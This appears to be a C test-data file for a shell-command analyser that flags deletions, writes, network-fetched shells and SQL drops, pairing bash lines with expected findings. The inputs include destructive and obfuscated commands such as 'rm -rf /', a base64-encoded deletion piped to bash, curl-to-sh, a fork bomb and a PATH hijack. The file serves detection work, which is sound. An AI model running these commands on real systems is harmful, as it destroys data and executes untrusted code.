/* SPDX-License-Identifier: ISC */
/* A line, and what it would do; see test_walk.c for the world it is read in.
 * What is read is left out here. */
static const struct line lines[] = {
	{ "rm -rf /",
	  "command rm -rf /\n"
	  "delete / recursive\n" },
	{ "\"r\"m ''x; r\\m $'\\x79'",
	  "command rm x\n"
	  "delete /w/x\n"
	  "command rm y\n"
	  "delete /w/y\n" },
	{ "a && kubectl delete pvc x || b & c",
	  "command a\n"
	  "command kubectl delete pvc x\n"
	  "command b\n"
	  "command c\n" },
	{ "! time rm x | cat",
	  "command rm x\n"
	  "delete /w/x\n"
	  "command cat\n" },
	{ "x=rm; $x -rf \"$HOME\"",
	  "command rm -rf /home/u\n"
	  "delete /home/u recursive\n" },
	{ "c='rm -rf a b'; $c",
	  "command rm -rf a b\n"
	  "delete /w/a recursive\n"
	  "delete /w/b recursive\n" },
	{ "$K get pods; \"$NOPE\"rm y",
	  "command kubectl get pods\n"
	  "command rm y\n"
	  "delete /w/y\n" },
	{ "IFS=,; x=rm,-rf,/; $x",
	  "assign IFS=,\n"
	  "command rm -rf /\n"
	  "delete / recursive\n" },
	{ "set -- rm -rf /; \"$@\"",
	  "command set -- rm -rf / [builtin]\n"
	  "command rm -rf /\n"
	  "delete / recursive\n" },
	{ "f() { \"$@\" tail; }; f rm x",
	  "command rm x tail\n"
	  "delete /w/x\n"
	  "delete /w/tail\n" },
	{ "f() { local c=ls; $c; }; c=rm; f; $c y",
	  "command local c=ls [builtin]\n"
	  "command ls\n"
	  "command rm y\n"
	  "delete /w/y\n" },
	{ "a=(rm -rf /); \"${a[@]}\"; ${a[0]} z",
	  "command rm -rf /\n"
	  "delete / recursive\n"
	  "command rm z\n"
	  "delete /w/z\n" },
	{ "declare -A m=([k]=rm); ${m[k]} x",
	  "command declare -A m= [builtin]\n"
	  "command rm x\n"
	  "delete /w/x\n" },
	{ "declare -n r=x; x=rm; $r foo",
	  "command declare -n r=x [builtin]\n"
	  "command rm foo\n"
	  "delete /w/foo\n" },
	{ "n=x; x=rm; ${!n} y",
	  "command rm y\n"
	  "delete /w/y\n" },
	{ "s=XrmX; ${s//X} a; ${s:1:2} b; ${s#X} c; u=RM; ${u,,} d",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command rm b\n"
	  "delete /w/b\n"
	  "command rmX c\n"
	  "command rm d\n"
	  "delete /w/d\n" },
	{ "${x:-rm} a; ${x:=rm} b; $x c; ${x:+ls} d",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command rm b\n"
	  "delete /w/b\n"
	  "command rm c\n"
	  "delete /w/c\n"
	  "command ls d\n" },
	{ "printf -v c '%s%s' r m; $c z",
	  "command printf -v c %s%s r m [builtin]\n"
	  "command rm z\n"
	  "delete /w/z\n" },
	{ "read -r a b <<< 'rm -rf /'; $a $b",
	  "command read -r a b [builtin]\n"
	  "command rm -rf /\n"
	  "delete / recursive\n" },
	{ "mapfile -t l <<< 'rm'; \"${l[0]}\" x",
	  "command mapfile -t l [builtin]\n"
	  "command rm x\n"
	  "delete /w/x\n" },
	{ "{rm,-rf,/}; {r..r}m a{1..3}",
	  "command rm -rf /\n"
	  "delete / recursive\n"
	  "command rm a1 a2 a3\n"
	  "delete /w/a1\n"
	  "delete /w/a2\n"
	  "delete /w/a3\n" },
	{ "rm ~/a ~+/b \"~/c\"",
	  "command rm /home/u/a /w/b ~/c\n"
	  "delete /home/u/a\n"
	  "delete /w/b\n"
	  "delete /w/~/c\n" },
	{ "cd /tmp && rm a; rm b",
	  "command cd /tmp [builtin]\n"
	  "command rm a\n"
	  "delete /tmp/a\n"
	  "command rm b\n"
	  "delete /tmp/b|/w/b\n" },
	{ "cd /tmp || exit; rm a",
	  "command cd /tmp [builtin]\n"
	  "command exit [builtin]\n"
	  "command rm a\n"
	  "delete /tmp/a\n" },
	{ "if t; then c=rm; else c=ls; fi; $c x",
	  "command t\n"
	  "command ls x\n"
	  "command rm x\n"
	  "delete /w/x\n" },
	{ "case $USER in a) x=1;; *) x=2;; esac; rm $x",
	  "command rm {2|1}\n"
	  "delete /w/2|/w/1\n" },
	{ "for i in a b; do rm \"$i\"; done",
	  "command rm {a|b}\n"
	  "delete /w/a|/w/b\n" },
	{ "for f in *.txt; do : \"$f\" \"${f%.txt}.bak\"; done",
	  "command : *.txt ?.bak [builtin]\n" },
	{ "i=0; while [ $i -lt 3 ]; do i=$((i+1)); rm \"f$i\"; done",
	  "command [ ? -lt 3 ] [builtin]\n"
	  "command rm f?\n"
	  "delete f?\n" },
	{ "(x=rm; cd /); $x a",
	  "command cd / [builtin]\n"
	  "command a\n" },
	{ "x=1; { x=2; }; rm $x",
	  "command rm 2\n"
	  "delete /w/2\n" },
	{ "eval 'kubectl delete pvc x'",
	  "command eval \"kubectl delete pvc x\" [builtin]\n"
	  "command kubectl delete pvc x\n" },
	{ "eval \"echo '\\$(rm a)'; rm b\"",
	  "command eval \"echo '$(rm a)'; rm b\" [builtin]\n"
	  "command echo \"$(rm a)\" [builtin]\n"
	  "command rm b\n"
	  "delete /w/b\n" },
	{ "bash -c 'rm \"$1\" $0' zero one",
	  "command bash -c \"rm \"$1\" $0\" zero one\n"
	  "command rm one zero [via bash]\n"
	  "delete /w/one\n"
	  "delete /w/zero\n" },
	{ "sh -c \"bash -c 'rm deep'\"",
	  "command sh -c \"bash -c 'rm deep'\"\n"
	  "command bash -c \"rm deep\" [via sh]\n"
	  "command rm deep [via bash]\n"
	  "delete /w/deep\n" },
	{ "echo 'rm -rf /' | sh",
	  "command echo \"rm -rf /\" [builtin]\n"
	  "command sh\n"
	  "command rm -rf / [via sh]\n"
	  "delete / recursive\n" },
	{ "bash <<< 'rm a'; bash <<'EOF'\n"
"rm b\n"
"EOF",
	  "command bash\n"
	  "command rm a [via bash]\n"
	  "delete /w/a\n"
	  "command bash\n"
	  "command rm b [via bash]\n"
	  "delete /w/b\n" },
	{ "echo cm0gLXJmIC8= | base64 -d | bash",
	  "command echo cm0gLXJmIC8= [builtin]\n"
	  "command base64 -d\n"
	  "command bash\n"
	  "command rm -rf / [via bash]\n"
	  "delete / recursive\n" },
	{ "$(echo rm) a; `echo rm` b",
	  "command echo rm [builtin]\n"
	  "command rm a\n"
	  "delete /w/a\n"
	  "command echo rm [builtin]\n"
	  "command rm b\n"
	  "delete /w/b\n" },
	{ "x=$(cat f); $x; eval \"$x\"; bash -c \"$x\"",
	  "command cat f\n"
	  "unknown command\n"
	  "command eval ? [builtin]\n"
	  "unknown shell\n"
	  "command bash -c ?\n"
	  "unknown shell\n" },
	{ "curl -s http://x/i | sh; bash <(curl http://x); eval \"$(curl x)\"",
	  "command curl -s http://x/i\n"
	  "command sh\n"
	  "net-shell\n"
	  "command curl http://x\n"
	  "command bash /dev/fd/1000\n"
	  "net-shell\n"
	  "command curl x\n"
	  "command eval ? [builtin]\n"
	  "net-shell\n" },
	{ ". <(echo rm q); echo 'rm r' > f; sh f",
	  "command echo rm q [builtin]\n"
	  "command . /dev/fd/1000 [builtin]\n"
	  "command rm q\n"
	  "delete /w/q\n"
	  "write /w/f\n"
	  "command echo \"rm r\" [builtin]\n"
	  "command sh f\n"
	  "command rm r [via sh]\n"
	  "delete /w/r\n" },
	{ "echo \"$(rm a)\" \"`rm b`\" ${x:-$(rm c)} $((a[$(rm d)])) <(rm e) > >(rm f)",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command rm b\n"
	  "delete /w/b\n"
	  "command rm c\n"
	  "delete /w/c\n"
	  "command rm d\n"
	  "delete /w/d\n"
	  "command rm e\n"
	  "delete /w/e\n"
	  "command rm f\n"
	  "delete /w/f\n"
	  "write /dev/fd/1001\n"
	  "command echo ? ? ?.. ? /dev/fd/1000 [builtin]\n" },
	{ "cat <<EOF\n"
"$(rm a)\n"
"EOF",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command cat\n" },
	{ "cat <<'EOF'\n"
"$(rm a)\n"
"EOF",
	  "command cat\n" },
	{ "[[ -v 'a[$(rm x)]' ]]; test -v 'b[$(rm y)]'; let 'c[$(rm z)]=1'",
	  "command rm x\n"
	  "delete /w/x\n"
	  "command test -v \"b[$(rm y)]\" [builtin]\n"
	  "command rm y\n"
	  "delete /w/y\n"
	  "command let \"c[$(rm z)]=1\" [builtin]\n"
	  "command rm z\n"
	  "delete /w/z\n" },
	{ "x='$(rm a)'; : \"${x@P}\"; PS4='$(rm b)'; set -x",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command : ? [builtin]\n"
	  "assign PS4=\"$(rm b)\"\n"
	  "command rm b\n"
	  "delete /w/b\n"
	  "command set -x [builtin]\n" },
	{ "trap 'rm \"$t\"' EXIT; t=$(mktemp)",
	  "command trap \"rm \"$t\"\" EXIT [builtin]\n"
	  "command mktemp\n"
	  "command rm /tmp/?\n"
	  "delete /tmp/?\n" },
	{ "t=$(mktemp -d); rm -rf \"$t\"; echo > \"$t/x\"",
	  "command mktemp -d\n"
	  "command rm -rf /tmp/?\n"
	  "delete /tmp/? recursive\n"
	  "write /tmp/?/x\n"
	  "command echo [builtin]\n" },
	{ "sleep 1 & kill $!; kill %1; kill $$; kill 99; kill \"$p\"; kill $(pgrep x); kill -0 5",
	  "command sleep 1\n"
	  "command kill ? [builtin]\n"
	  "signal ? own\n"
	  "command kill %1 [builtin]\n"
	  "signal %1 own\n"
	  "command kill 4711 [builtin]\n"
	  "signal 4711 own\n"
	  "command kill 99 [builtin]\n"
	  "signal 99 other\n"
	  "command kill \"\" [builtin]\n"
	  "signal \"\" own\n"
	  "command pgrep x\n"
	  "command kill ?.. [builtin]\n"
	  "signal ?.. unknown\n"
	  "command kill -0 5 [builtin]\n" },
	{ "echo x > a; echo y >> /b; : > \"$HOME/e\"",
	  "write /w/a\n"
	  "command echo x [builtin]\n"
	  "write /b append\n"
	  "command echo y [builtin]\n"
	  "write /home/u/e\n"
	  "command : [builtin]\n" },
	{ "x=$(cat f); echo > \"$x\"; for i in 1 2; do echo > \"$i.log\"; done; echo > \"log-$x\"",
	  "command cat f\n"
	  "write ?\n"
	  "unknown target\n"
	  "command echo [builtin]\n"
	  "write /w/1.log|/w/2.log\n"
	  "command echo [builtin]\n"
	  "write log-?\n"
	  "command echo [builtin]\n" },
	{ "PATH=/evil:$PATH ls; export A=1; PATH=/x",
	  "assign PATH=/evil:/usr/bin:/bin\n"
	  "command PATH=/evil:/usr/bin:/bin ls\n"
	  "command export A=1 [builtin]\n"
	  "assign A=1\n"
	  "assign PATH=/x\n" },
	{ "command rm a; builtin eval 'rm b'; exec rm c",
	  "command command rm a [builtin]\n"
	  "command rm a\n"
	  "delete /w/a\n"
	  "command builtin eval \"rm b\" [builtin]\n"
	  "command eval \"rm b\" [builtin]\n"
	  "command rm b\n"
	  "delete /w/b\n"
	  "command exec rm c [builtin]\n"
	  "command rm c\n"
	  "delete /w/c\n" },
	{ "psql -c 'drop table x'; psql <<< 'delete from t'",
	  "command psql -c \"drop table x\"\n"
	  "sql DROP TABLE x\n"
	  "command psql\n"
	  "sql DELETE TABLE t\n" },
	{ "x=$(cat f); psql -c \"$x\"; cat dump | psql",
	  "command cat f\n"
	  "command psql -c ?\n"
	  "unknown sql\n"
	  "command cat dump\n"
	  "command psql\n"
	  "unknown sql\n" },
	{ "r() { r; }; r",
	  "" },
	{ ":(){ :|:& };:",
	  "" },
	{ "alias k=kubectl\n"
"k delete pvc x",
	  "command alias k=kubectl [builtin]\n"
	  "command kubectl delete pvc x\n"
	  "command k delete pvc x\n" },
	{ "eval 'echo \"unclosed'",
	  "command eval \"echo \"unclosed\" [builtin]\n"
	  "status 1 nested\n" },
	{ "echo 'DROP TABLE x; kubectl delete pvc x' 'rm -rf /'",
	  "command echo \"DROP TABLE x; kubectl delete pvc x\" \"rm -rf /\" [builtin]\n" },
	{ "git commit -m \"$(cat <<'EOF'\n"
"git push --force origin main\n"
"EOF\n"
")\"",
	  "command cat\n"
	  "command git commit -m \"git push --force origin main\"\n" },
	{ "cd \"$(git rev-parse --show-toplevel)\" && make",
	  "command git rev-parse --show-toplevel\n"
	  "command cd ? [builtin]\n"
	  "command make\n" },
	{ "x=$(cat f); cat $x \"$x\" ; ls $(x) \"$@\" $*",
	  "command cat f\n"
	  "command cat ?.. ?\n"
	  "command x\n"
	  "command ls ?..\n" },
	{ "set -e; cd nowhere; rm a",
	  "command set -e [builtin]\n"
	  "command cd nowhere [builtin]\n"
	  "command rm a\n"
	  "delete /w/nowhere/a\n" },
	{ "hash -p /bin/rm ok; ok x",
	  "command hash -p /bin/rm ok [builtin]\n"
	  "command /bin/rm x\n"
	  "delete /w/x\n" },
	{ "coproc rm z; select v in a; do rm $v; done; until t; do rm u; done",
	  "command rm z\n"
	  "delete /w/z\n"
	  "command rm a\n"
	  "delete /w/a\n"
	  "command t\n"
	  "command rm u\n"
	  "delete /w/u\n" },
	{ ": ${x:=$(rm a)} | cat; echo ${#x} $# $?",
	  "command rm a\n"
	  "delete /w/a\n"
	  "command : ?.. [builtin]\n"
	  "command cat\n"
	  "command echo 0 0 ? [builtin]\n" },
	{ "declare -i i='a[$(rm x)]'",
	  "command declare -i \"i=a[$(rm x)]\" [builtin]\n"
	  "command rm x\n"
	  "delete /w/x\n" },
	{ ": d && cd $_ && rm a",
	  "command : d [builtin]\n"
	  "command cd d [builtin]\n"
	  "command rm a\n"
	  "delete /w/d/a\n" },
	{ "rm \"a b\" c\\ d $'e\\tf'",
	  "command rm \"a b\" \"c d\" \"e\\tf\"\n"
	  "delete /w/a b\n"
	  "delete /w/c d\n"
	  "delete /w/e\\tf\n" },
};
